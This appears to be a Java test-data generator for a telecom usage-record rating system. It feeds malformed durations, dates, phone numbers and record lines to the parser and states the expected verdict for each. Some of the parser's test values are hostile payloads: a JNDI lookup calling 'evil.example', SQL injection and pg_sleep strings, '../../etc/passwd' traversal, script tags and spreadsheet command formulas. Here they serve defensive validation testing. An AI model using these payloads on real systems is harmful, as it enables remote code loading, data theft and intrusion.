package bellbird.usage;

import bellbird.usage.FeedProfile.AmbiguousHour;
import bellbird.usage.UsageItem.Line;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;

/** Files with one bad or odd record among good ones; the good ones are rated all the same. */
final class BadRecords {

    private final GoodRecords good;
    private final String elsewhere;
    private final List<UsageItem> items = new ArrayList<>();

    BadRecords(GoodRecords good, String elsewhere) {
        this.good = good;
        this.elsewhere = elsewhere;
    }

    List<UsageItem> items() {
        durations();
        volumes();
        instants();
        clockChanges();
        parties();
        words();
        shapes();
        repeats();
        return items;
    }

    private void durations() {
        each("negative duration", "seconds", "REJECTED error.usage.seconds")
                .values(
                        "-1",
                        "-0",
                        "-0.5",
                        "\u22125",
                        "-" + good.digits(6),
                        "-9223372036854775808");
        each("duration is no number", "seconds", "REJECTED error.usage.seconds")
                .values(
                        "NaN",
                        "Infinity",
                        "1e309",
                        "1e3",
                        "0x3C",
                        "1_000",
                        "+5",
                        "",
                        "1.2.3",
                        ".",
                        "5.")
                .values(".5", "1 000", "60s", "null", "1.0000000001", "''", "½", "Ⅻ");
        each("digits of other scripts", "seconds", "REJECTED error.usage.seconds")
                .values("٦١", "６１", "६१", "๖๑", "𝟔𝟏", "6١");
        each("decimal comma the feed does not declare", "seconds", "REJECTED error.usage.seconds")
                .values("\"1,5\"", "\"1.234,56\"", "\"1,234\"", "1'234", "1\u00a0234");
        each("duration beyond 64 bits", "seconds", "REJECTED error.usage.seconds")
                .values("9223372036854775808", good.digits(20), good.digits(60), good.digits(900));
        each("duration longer than a day", "seconds", "SUSPENDED error.usage.duration")
                .values("86401", "86400.1", "2147483647", "2147483648", "4294967296")
                .values("4294967356", "9223372036854775807", "1" + good.digits(10));
        each("duration 0", "seconds", "RATED 0").values("0", "0.0", "000", "0.000000000");
        each("part of a second", "seconds", "RATED 61").values("60.1", "60.999999999", "0000061");
        each("longest call", "seconds", "RATED 86400").values("86400", "86399.5");
        in(Profiles.continental(), "decimal comma the feed declares", "seconds", "RATED 1235")
                .values("\"1.234,56\"", "\"1234,1\"", "1.235");
        in(
                        Profiles.continental(),
                        "decimal point where the feed says comma",
                        "seconds",
                        "REJECTED error.usage.seconds")
                .values("1.5", "\"1,234.5\"", "12.34");
    }

    private void volumes() {
        for (String value : List.of("-1", "10.5", "1e9", "NaN", "9223372036854775808", "٦", "")) {
            add("bytes cannot be read", value, good.data(value), "REJECTED error.usage.bytes");
        }
        for (String value : List.of("10000000000001", "9223372036854775807", good.digits(17))) {
            add("more than 10 TB", value, good.data(value), "SUSPENDED error.usage.volume");
        }
        add("0 bytes", "0", good.data("0"), "RATED 0");
        add("10 TB", "10 TB", good.data("10000000000000"), "RATED 10000000000000");
    }

    private void instants() {
        each("date that does not exist", "start", "REJECTED error.usage.start")
                .values("0000-10-12T10:00:00Z", "2026-02-31T10:00:00Z", "2026-02-29T10:00:00Z")
                .values("2026-13-01T10:00:00Z", "2026-00-10T10:00:00Z", "2026-10-00T10:00:00Z")
                .values("2026-10-12T24:00:00Z", "2026-10-12T23:59:60Z", "2026-10-12T23:60:00Z");
        each("date in another notation", "start", "REJECTED error.usage.start")
                .values("", "now", "1760000000", "12.10.2026 10:00:00", "10/12/2026 10:00")
                .values(
                        "2026-10-12",
                        "2026-10-12T10:00",
                        "20261012T100000Z",
                        "2026-W42-1T10:00:00Z")
                .values("٢٠٢٦-10-12T10:00:00Z", "-2026-10-12T10:00:00", "2026-10-12T10:00:00.Z")
                .values("2026-10-12T10:00:00.1234567890Z", "2026-10-12T10:00:00Zx");
        each("offset that does not exist", "start", "REJECTED error.usage.start")
                .values("2026-10-12T10:00:00+25:00", "2026-10-12T10:00:00+18:01")
                .values("2026-10-12T10:00:00+01", "2026-10-12T10:00:00 Europe/London");
        each("instant beyond the years 1 to 9999", "start", "REJECTED error.usage.start")
                .values("9999-12-31T23:59:59-18:00", "0001-01-01T00:00:00+18:00")
                .values("9999-12-31T23:59:59-00:01", "+10000-01-01T00:00:00Z");
        each("older than 90 days", "start", "SUSPENDED error.usage.tooOld")
                .values("1900-01-01T10:00:00Z", "1970-01-01T00:00:00Z", "0001-01-02T00:00:00Z")
                .values("2026-07-30T11:59:59Z", "1582-10-10T12:00:00Z", "2025-10-20T10:00:00");
        each("in the future", "start", "SUSPENDED error.usage.future")
                .values("2099-01-01T10:00:00Z", "9999-12-31T00:00:00Z", "2026-10-28T13:00:01Z")
                .values("2038-01-19T03:14:08Z");
        each("time with offset, blank or fraction", "start", "RATED 61")
                .values(
                        "2026-10-14T10:00:00+05:30",
                        "2026-10-14 10:00:00",
                        "2026-10-14T10:00:00.5Z")
                .values("2026-10-14T10:00:00-00:00", "2026-10-28T12:59:59Z");
    }

    private void clockChanges() {
        each("doubled hour without offset", "start", "SUSPENDED error.usage.ambiguous")
                .values("2026-10-25T01:00:00", "2026-10-25T01:30:00", "2026-10-25T01:59:59.9");
        each("doubled hour with offset", "start", "RATED 61")
                .values("2026-10-25T01:30:00+01:00", "2026-10-25T01:30:00+00:00");
        for (AmbiguousHour rule : List.of(AmbiguousHour.EARLIER, AmbiguousHour.LATER)) {
            in(Profiles.with(rule), "doubled hour, rule " + rule, "start", "RATED 61")
                    .values("2026-10-25T01:30:00", "2026-10-25T01:00:00");
        }
        in(
                        Profiles.in("Australia/Sydney"),
                        "hour that is missing",
                        "start",
                        "SUSPENDED error.usage.gap")
                .values("2026-10-04T02:00:00", "2026-10-04T02:30:00", "2026-10-04T02:59:59");
    }

    private void parties() {
        each("served number cannot be read", "served", "REJECTED error.usage.served")
                .values("", "+", "+4477FLOWERS", "tel:+447700900123", "+4477009001230000000000000")
                .values(good.digits(25), "++447700900123", "+٤٤٧٧٠٠٩٠٠١٢٣", "12", "' or 1=1 --")
                .values("${jndi:ldap://evil.example/a}", "+44770090012😀", good.digits(900));
        each("unknown number", "served", "SUSPENDED error.usage.unknownNumber")
                .values("+447700" + good.random.nextInt(901_000, 999_999), "+3932812345678")
                .values("00447700900124", "07700 900125");
        each("number of another operator's line", "served", "SUSPENDED error.usage.unknownNumber")
                .values(elsewhere, "00" + elsewhere.substring(1), "0" + elsewhere.substring(3));
        each("before the line was active", "start", "SUSPENDED error.usage.unknownNumber")
                .values("2026-10-11T10:00:00Z", "2026-09-30T23:00:00Z");
        each("served number in any notation", "served", "RATED 61")
                .values("+447700900123", "00447700900123", "+44 7700 900 123", "07700 900123")
                .values("+44-7700-900123", "(07700) 900123", "+44.7700.900123", " +447700900123 ");
        each("other number cannot be read", "other", "REJECTED error.usage.other")
                .values("", "tel:now", "+4420😀79460000", good.digits(25), good.digits(15_000))
                .values("(".repeat(15_000), "+".repeat(15_000), "<script>alert(1)</script>");
        each("short number", "other", "SUSPENDED error.usage.shortNumber")
                .values("50123", "*100#", "#21#", "118500");
        each("no price", "other", "SUSPENDED error.usage.noPrice")
                .values("+9991234567", "+1" + good.digits(10), "+870773111632");
        each("emergency call", "other", "IGNORED error.usage.emergency").values("112", "999");
    }

    private void words() {
        each("unknown service", "service", "REJECTED error.usage.service")
                .values("", "fax", "vo\u0131ce", "v\u03bfice", "voice;drop", "VOICE\u200b", "1");
        each("unknown direction", "direction", "REJECTED error.usage.direction")
                .values("up", "\u200eout", "outx", "0");
        each("incoming", "direction", "IGNORED error.usage.incoming")
                .values("in", "mt", "IN", " In ");
        each("service in capitals", "service", "RATED 61").values("VOICE", "Call", " voice ");
        each("record id cannot be read", "record_id", "REJECTED error.usage.recordId")
                .values(
                        "",
                        " ",
                        "r😀",
                        "ré",
                        "a b",
                        "a\tb",
                        "x\u001b[31m",
                        "k".repeat(81),
                        "\u202er1")
                .values("k".repeat(16_000));
        each("record id with hostile text", "record_id", "RATED 61")
                .values("../../etc/passwd", "${7*7}", "<script>alert(1)</script>", "=cmd|'/C'!A0")
                .values("'||pg_sleep(9)||'", "%00", "{{7*7}}", "\\N", "k".repeat(80));
    }

    private void shapes() {
        String line = good.call("61");
        each("line that is no record", null, "REJECTED error.usage.columns")
                .values("x", ";;;;;;;", line.replace(',', ';'), ",".repeat(6), ",".repeat(8))
                .values(
                        ",".repeat(199),
                        ",".repeat(200),
                        ",".repeat(16_000),
                        line + ",",
                        " ",
                        "\\.")
                .values(
                        "\u2028" + "x",
                        "<script>alert(1)</script>",
                        "=cmd|' /C calc'!A0",
                        "TRAILER");
        each("quotation marks", null, "REJECTED error.usage.quote")
                .values("\"" + good.call("61"), "\"", good.callWith("other", "\"+44207\"9460000"))
                .values(good.call("61") + "\"", good.callWith("service", "vo\"ice"), "\"\"\"")
                .values(good.callWith("seconds", "\"61\" "));
        each("NUL", null, "REJECTED error.usage.nul")
                .values("\0", good.call("6\0001"), good.call("61") + "\0", "\0".repeat(4_000))
                .values(good.callWith("service", "voice\0"));
        each("line longer than the feed allows", null, "REJECTED error.usage.line")
                .values("x".repeat(16_385), ",".repeat(20_000), good.call("6".repeat(20_000)))
                .values("\"" + "q".repeat(70_000), "😀".repeat(10_000), "\0".repeat(20_000));
        in(
                        Profiles.limited(1, 100),
                        "line cut within a character",
                        null,
                        "REJECTED error.usage.line")
                .values("x" + "😀".repeat(60), "😀".repeat(51));
        each("quoted values", null, "RATED 61")
                .values(good.callWith("seconds", "\"61\""), good.callWith("service", "\"voice\""));
    }

    private void repeats() {
        for (String notation : List.of("+447700900123", "00447700900123", "07700 900123")) {
            repeat("same record twice", notation, "61", "DUPLICATE error.usage.duplicate");
            repeat("same id, other content", notation, "62", "SUSPENDED error.usage.conflict");
        }
    }

    private void repeat(String inputClass, String notation, String seconds, String verdict) {
        String first = good.callWith("served", "+447700900123");
        String again =
                first.replace("+447700900123", notation).replace(",61,", "," + seconds + ",");
        List<Line> lines = new ArrayList<>(List.of(new Line(first, "RATED 61")));
        lines.addAll(good.some(2));
        lines.add(new Line(again, verdict));
        items.add(UsageItem.of(inputClass, notation, Profiles.GENERIC, lines));
    }

    private Each each(String inputClass, @Nullable String column, String verdict) {
        return in(Profiles.GENERIC, inputClass, column, verdict);
    }

    private Each in(
            ProfileDocument profile, String inputClass, @Nullable String column, String verdict) {
        return new Each(profile, inputClass, column, verdict);
    }

    /**
     * Adds a file per value.
     *
     * @param column that holds the value; null if the value is the line
     */
    private final class Each {
        final ProfileDocument profile;
        final String inputClass;
        final @Nullable String column;
        final String verdict;

        Each(ProfileDocument profile, String inputClass, @Nullable String column, String verdict) {
            this.profile = profile;
            this.inputClass = inputClass;
            this.column = column;
            this.verdict = verdict;
        }

        Each values(String... values) {
            for (String value : values) {
                String line = column == null ? value : good.callWith(column, value);
                add(profile, inputClass, value, line, verdict);
            }
            return this;
        }
    }

    private void add(String inputClass, String name, String line, String verdict) {
        add(Profiles.GENERIC, inputClass, name, line, verdict);
    }

    private void add(
            ProfileDocument profile, String inputClass, String name, String line, String verdict) {
        List<Line> lines = good.some(good.random.nextInt(1, 5));
        lines.add(good.random.nextInt(lines.size() + 1), new Line(line, verdict));
        items.add(UsageItem.of(inputClass, shown(name), profile, lines));
    }

    /** A value as a test's name can show it. */
    static String shown(String value) {
        String ascii =
                value.codePoints()
                        .limit(40)
                        .mapToObj(
                                code ->
                                        code > 0x20 && code < 0x7F
                                                ? Character.toString(code)
                                                : "\\u{%x}".formatted(code))
                        .reduce("", String::concat);
        return value.length() > 40 ? ascii + " … " + value.length() : "“" + ascii + "”";
    }
}
